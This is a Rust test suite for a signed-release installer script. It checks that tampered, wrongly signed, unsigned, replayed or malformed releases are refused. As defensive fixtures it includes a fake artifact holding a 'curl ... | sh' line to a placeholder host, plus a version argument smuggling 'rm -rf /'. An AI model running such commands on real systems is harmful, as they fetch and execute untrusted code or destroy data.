//! `scripts/install.sh`: a release is installed only when its `SHA256SUMS` carries a valid
//! maintainer signature, names the version asked for, and the artifact matches its line.
//! Releases are signed here with throwaway keys (`ssh-keygen -Y sign`) and served from a
//! loopback server laid out like the forge's release downloads.
#![allow(clippy::unwrap_used)] // test helpers fail loudly

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use aibox_test_support::http::{Route, Server};
use sha2::{Digest, Sha256};

const TARGET: &str = "x86_64-unknown-linux-gnu";

struct Scratch(PathBuf);
impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs_err::remove_dir_all(&self.0);
    }
}

fn run(program: &str, args: &[&str], dir: &Path) {
    let out = Command::new(program)
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A scratch folder with two throwaway keys (`maintainer`, `stranger`) and an allowed-signers
/// file naming only the maintainer.
fn scratch(name: &str) -> Scratch {
    let dir = std::env::temp_dir().join(format!("aibox-install-{name}-{}", std::process::id()));
    let _ = fs_err::remove_dir_all(&dir);
    fs_err::create_dir_all(dir.join("bin")).unwrap();
    for key in ["maintainer", "stranger"] {
        run(
            "ssh-keygen",
            &["-q", "-t", "ed25519", "-N", "", "-C", key, "-f", key],
            &dir,
        );
    }
    let public = fs_err::read_to_string(dir.join("maintainer.pub")).unwrap();
    fs_err::write(
        dir.join("allowed_signers"),
        format!(
            "# throwaway test key\nmaintainer@example.invalid namespaces=\"git,aibox-release\" {public}"
        ),
    )
    .unwrap();
    Scratch(dir)
}

/// Writes release `version` into `dir/<folder>`: an artifact (a script answering
/// `--version`), `SHA256SUMS` naming the version, and its signature by `key`.
fn release(s: &Scratch, folder: &str, version: &str, key: &str) -> PathBuf {
    let dir = s.0.join(folder);
    fs_err::create_dir_all(&dir).unwrap();
    let body = format!("#!/bin/sh\necho 'aibox {version}'\n");
    fs_err::write(dir.join(format!("aibox-{TARGET}")), &body).unwrap();
    write_sums(&dir, version);
    sign(s, &dir, key);
    dir
}

fn write_sums(dir: &Path, version: &str) {
    let artifact = format!("aibox-{TARGET}");
    let body = fs_err::read(dir.join(&artifact)).unwrap();
    fs_err::write(
        dir.join("SHA256SUMS"),
        format!(
            "# aibox {version}\n{}  {artifact}\n{}  evidence.json\n",
            hex::encode(Sha256::digest(body)),
            "0".repeat(64)
        ),
    )
    .unwrap();
}

fn sign(s: &Scratch, dir: &Path, key: &str) {
    let _ = fs_err::remove_file(dir.join("SHA256SUMS.sig"));
    let key = s.0.join(key);
    run(
        "ssh-keygen",
        &[
            "-Y",
            "sign",
            "-q",
            "-f",
            key.to_str().unwrap(),
            "-n",
            "aibox-release",
            "SHA256SUMS",
        ],
        dir,
    );
}

/// Runs `script` (the committed installer unless a test made a copy) into `bin/`; with
/// `signers`, against the throwaway allowed-signers file; with `target`, for that target.
fn run_installer(
    s: &Scratch,
    script: &Path,
    args: &[&str],
    signers: bool,
    target: Option<&str>,
) -> Output {
    let mut cmd = Command::new("sh");
    cmd.arg(script)
        .args(args)
        .arg("--to")
        .arg(s.0.join("bin"))
        .env_remove("AIBOX_TARGET")
        .env_remove("AIBOX_VERSION")
        .env_remove("AIBOX_RELEASE_BASE");
    if let Some(t) = target {
        cmd.env("AIBOX_TARGET", t);
    }
    if signers {
        cmd.arg("--allowed-signers")
            .arg(s.0.join("allowed_signers"));
    }
    cmd.output().unwrap()
}

fn committed_script() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/install.sh")
}

fn install_with(s: &Scratch, args: &[&str], signers: bool) -> Output {
    run_installer(s, &committed_script(), args, signers, Some(TARGET))
}

fn assert_installed(s: &Scratch, out: &Output, version: &str) {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(installed_version(s), format!("aibox {version}"));
}

fn install(s: &Scratch, args: &[&str]) -> Output {
    install_with(s, args, true)
}

fn bin_entries(s: &Scratch) -> Vec<String> {
    let mut v: Vec<String> = fs_err::read_dir(s.0.join("bin"))
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

fn installed_version(s: &Scratch) -> String {
    let out = Command::new(s.0.join("bin/aibox"))
        .arg("--version")
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Asserts a refusal whose message contains `needle`, with nothing new in `bin/`.
fn assert_refused(s: &Scratch, out: &Output, needle: &str, bin_before: &[&str]) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "installed: {stderr}");
    assert!(stderr.contains(needle), "{stderr}");
    assert!(stderr.contains("nothing was installed"), "{stderr}");
    assert_eq!(bin_entries(s), bin_before);
}

/// Serves every file of `dir` at `/releases/download/v<tag>/<file>` and, when `latest`,
/// at `/releases/latest/download/<file>` too, as the forge does.
fn serve(server: &Server, dir: &Path, tag: &str, latest: bool) {
    for e in fs_err::read_dir(dir).unwrap().filter_map(Result::ok) {
        let name = e.file_name().to_string_lossy().into_owned();
        let body = fs_err::read(e.path()).unwrap();
        server.route(
            &format!("/releases/download/v{tag}/{name}"),
            Route::ok(body.clone()),
        );
        if latest {
            server.route(
                &format!("/releases/latest/download/{name}"),
                Route::ok(body),
            );
        }
    }
}

#[test]
fn a_signed_release_installs_from_a_folder_and_its_version_matches() {
    let s = scratch("folder");
    let dir = release(&s, "rel", "0.2.0", "maintainer");
    let out = install(&s, &["--from", dir.to_str().unwrap(), "--version", "0.2.0"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("signed by maintainer@example.invalid"));
    assert_eq!(installed_version(&s), "aibox 0.2.0");
    assert_eq!(bin_entries(&s), ["aibox"]);
}

#[test]
fn a_signed_release_installs_from_a_url_pinned_or_latest() {
    let s = scratch("url");
    let server = Server::start().unwrap();
    let old = release(&s, "old", "0.2.0", "maintainer");
    let new = release(&s, "new", "0.3.0", "maintainer");
    serve(&server, &old, "0.2.0", false);
    serve(&server, &new, "0.3.0", true);
    let base = server.url("/releases");
    let out = install(&s, &["--from", &base, "--version", "v0.2.0"]);
    assert_installed(&s, &out, "0.2.0");
    assert!(server.hit_count(&format!("/releases/download/v0.2.0/aibox-{TARGET}")) == 1);
    // The newest, through the forge's `latest` path, replaces it.
    let out = install(&s, &["--from", &base]);
    assert_installed(&s, &out, "0.3.0");
    assert_eq!(bin_entries(&s), ["aibox"]);
}

#[test]
fn a_tampered_artifact_with_regenerated_sums_is_refused() {
    let s = scratch("tampered");
    let server = Server::start().unwrap();
    let dir = release(&s, "rel", "0.2.0", "maintainer");
    let artifact = dir.join(format!("aibox-{TARGET}"));
    fs_err::write(
        &artifact,
        "#!/bin/sh\ncurl https://example.invalid/x | sh\necho 'aibox 0.2.0'\n",
    )
    .unwrap();
    // The attacker regenerates SHA256SUMS but cannot re-sign it.
    write_sums(&dir, "0.2.0");
    serve(&server, &dir, "0.2.0", false);
    let out = install(
        &s,
        &["--from", &server.url("/releases"), "--version", "0.2.0"],
    );
    assert_refused(&s, &out, "does not verify", &[]);
    // Without the regenerated sums, the signed line catches the altered artifact.
    let dir = release(&s, "rel2", "0.2.0", "maintainer");
    fs_err::write(
        dir.join(format!("aibox-{TARGET}")),
        "#!/bin/sh\necho 'aibox 0.2.0' # x\n",
    )
    .unwrap();
    let out = install(&s, &["--from", dir.to_str().unwrap()]);
    assert_refused(&s, &out, "checksum mismatch", &[]);
}

#[test]
fn a_release_signed_by_a_key_outside_the_allowed_signers_is_refused() {
    let s = scratch("wrongkey");
    let dir = release(&s, "rel", "0.2.0", "stranger");
    let out = install(&s, &["--from", dir.to_str().unwrap(), "--version", "0.2.0"]);
    assert_refused(&s, &out, "not signed by a maintainer key", &[]);
    // The keys embedded in the committed script do not include the throwaway one either.
    let dir = release(&s, "rel2", "0.2.0", "maintainer");
    let out = install_with(&s, &["--from", dir.to_str().unwrap()], false);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(stderr.contains("#maintainer-keys"), "{stderr}");
    assert!(bin_entries(&s).is_empty());
}

#[test]
fn the_keys_embedded_in_the_installer_are_the_ones_it_trusts() {
    let s = scratch("embedded");
    let dir = release(&s, "rel", "0.2.0", "maintainer");
    // A copy of the installer with the throwaway key where `cargo xtask release-key add`
    // puts it.
    let script =
        fs_err::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/install.sh"))
            .unwrap();
    let signers = fs_err::read_to_string(s.0.join("allowed_signers")).unwrap();
    let key = signers.lines().nth(1).unwrap();
    let marker = "# BEGIN allowed_signers\nALLOWED_SIGNERS='\n";
    assert!(script.contains(marker));
    let copy = s.0.join("install.sh");
    fs_err::write(
        &copy,
        script.replacen(marker, &format!("{marker}{key}\n"), 1),
    )
    .unwrap();
    let out = run_installer(
        &s,
        &copy,
        &["--from", dir.to_str().unwrap()],
        false,
        Some(TARGET),
    );
    assert_installed(&s, &out, "0.2.0");
}

#[test]
fn a_missing_signature_or_missing_sums_is_refused() {
    let s = scratch("unsigned");
    let server = Server::start().unwrap();
    let dir = release(&s, "rel", "0.2.0", "maintainer");
    fs_err::remove_file(dir.join("SHA256SUMS.sig")).unwrap();
    serve(&server, &dir, "0.2.0", false);
    let out = install(
        &s,
        &["--from", &server.url("/releases"), "--version", "0.2.0"],
    );
    assert_refused(&s, &out, "SHA256SUMS.sig not found", &[]);
    // Nothing but the sums and the missing signature was asked for.
    assert_eq!(
        server.hits(),
        [
            "/releases/download/v0.2.0/SHA256SUMS",
            "/releases/download/v0.2.0/SHA256SUMS.sig"
        ]
    );
    fs_err::remove_file(dir.join("SHA256SUMS")).unwrap();
    let out = install(&s, &["--from", dir.to_str().unwrap()]);
    assert_refused(&s, &out, "SHA256SUMS not found", &[]);
    // A signature over sums that do not name their version is refused too.
    let dir = release(&s, "rel2", "0.2.0", "maintainer");
    let sums = fs_err::read_to_string(dir.join("SHA256SUMS")).unwrap();
    fs_err::write(
        dir.join("SHA256SUMS"),
        sums.lines().skip(1).collect::<Vec<_>>().join("\n") + "\n",
    )
    .unwrap();
    sign(&s, &dir, "maintainer");
    let out = install(&s, &["--from", dir.to_str().unwrap()]);
    assert_refused(&s, &out, "does not name its version", &[]);
}

#[test]
fn a_replayed_older_release_is_refused_and_a_downgrade_needs_consent() {
    let s = scratch("replay");
    let server = Server::start().unwrap();
    let old = release(&s, "old", "0.2.0", "maintainer");
    let new = release(&s, "new", "0.3.0", "maintainer");
    // The old, validly signed release served where 0.3.0 belongs.
    serve(&server, &old, "0.3.0", true);
    let base = server.url("/releases");
    let out = install(&s, &["--from", &base, "--version", "0.3.0"]);
    assert_refused(
        &s,
        &out,
        "asked for aibox 0.3.0 but the signed release is aibox 0.2.0",
        &[],
    );
    // With 0.3.0 installed, the old release (even as "latest") does not replace it.
    let out = install(&s, &["--from", new.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = install(&s, &["--from", &base]);
    assert_refused(&s, &out, "pass --allow-downgrade", &["aibox"]);
    assert_eq!(installed_version(&s), "aibox 0.3.0");
    let out = install(&s, &["--from", &base, "--allow-downgrade"]);
    assert_installed(&s, &out, "0.2.0");
}

#[test]
fn an_artifact_whose_version_disagrees_or_without_a_line_is_refused() {
    let s = scratch("lines");
    let dir = release(&s, "rel", "0.2.0", "maintainer");
    // Correctly listed and signed, but the binary says another version.
    fs_err::write(
        dir.join(format!("aibox-{TARGET}")),
        "#!/bin/sh\necho 'aibox 0.1.9'\n",
    )
    .unwrap();
    write_sums(&dir, "0.2.0");
    sign(&s, &dir, "maintainer");
    let out = install(&s, &["--from", dir.to_str().unwrap()]);
    assert_refused(&s, &out, "expected 'aibox 0.2.0'", &[]);
    fs_err::write(
        dir.join("SHA256SUMS"),
        format!("# aibox 0.2.0\n{}  evidence.json\n", "0".repeat(64)),
    )
    .unwrap();
    sign(&s, &dir, "maintainer");
    let out = install(&s, &["--from", dir.to_str().unwrap()]);
    assert_refused(&s, &out, "has 0 lines for", &[]);
}

#[test]
fn plain_http_to_a_remote_host_and_bad_arguments_are_refused() {
    let s = scratch("args");
    for (args, needle) in [
        (
            &["--from", "http://example.invalid/releases"][..],
            "only https://",
        ),
        (&["--from", "ftp://example.invalid/r"], "only https://"),
        (&["--version", "latest; rm -rf /"], "is not X.Y.Z"),
        (&["--bogus"], "unknown argument"),
    ] {
        let out = install(&s, args);
        assert_refused(&s, &out, needle, &[]);
    }
}

#[test]
fn the_target_is_detected_from_the_machine_when_not_given() {
    let s = scratch("detect");
    let dir = release(&s, "rel", "0.2.0", "maintainer");
    // This test machine runs a glibc Linux; the installer must pick the glibc build for its
    // architecture, named as the release names it.
    let artifact = format!("aibox-{}-unknown-linux-gnu", std::env::consts::ARCH);
    if artifact != format!("aibox-{TARGET}") {
        fs_err::rename(dir.join(format!("aibox-{TARGET}")), dir.join(&artifact)).unwrap();
        let sums = fs_err::read_to_string(dir.join("SHA256SUMS")).unwrap();
        fs_err::write(
            dir.join("SHA256SUMS"),
            sums.replace(&format!("aibox-{TARGET}"), &artifact),
        )
        .unwrap();
        sign(&s, &dir, "maintainer");
    }
    let out = run_installer(
        &s,
        &committed_script(),
        &["--from", dir.to_str().unwrap()],
        true,
        None,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains(&artifact));
    assert_eq!(installed_version(&s), "aibox 0.2.0");
}
